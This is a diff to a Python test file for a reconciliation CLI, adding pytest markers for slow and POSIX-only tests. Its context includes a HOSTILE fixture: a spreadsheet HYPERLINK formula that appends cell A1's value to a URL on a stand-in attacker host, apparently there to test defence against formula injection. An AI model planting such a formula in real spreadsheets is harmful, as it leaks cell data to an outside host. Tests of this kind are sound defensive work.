@@ -6,10 +6,12 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
 from click.testing import CliRunner
 
 from reconcile.cli import cli
 
+from conftest import posix_only
 from test_pipeline import PAYMENTS, REGISTRY, month
 
 HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Xem")'
@@ -123,6 +125,7 @@ def test_an_output_never_replaces_an_input_or_another_output(tmp_path):
     assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and p != workbook_input} == snapshot
 
 
+@pytest.mark.slow
 def test_a_wide_rejected_row_is_written_whole_in_file_order(tmp_path):
     """The rejected rows sheet writes each raw row in one pass over its values (it took minutes for rows of
     thousands of columns)."""
@@ -149,6 +152,7 @@ def test_a_wide_rejected_row_is_written_whole_in_file_order(tmp_path):
                                 + [f"ghi chú {i}: x{i}" for i in range(1500)])
 
 
+@posix_only  # a symbolic link on Windows needs an administrator or developer mode
 def test_an_output_at_a_link_replaces_the_link_and_never_writes_through_it(tmp_path):
     """A link planted at the workbook's or an export's name (to a file of someone else's) is replaced by
     the output; the file it pointed to is untouched."""
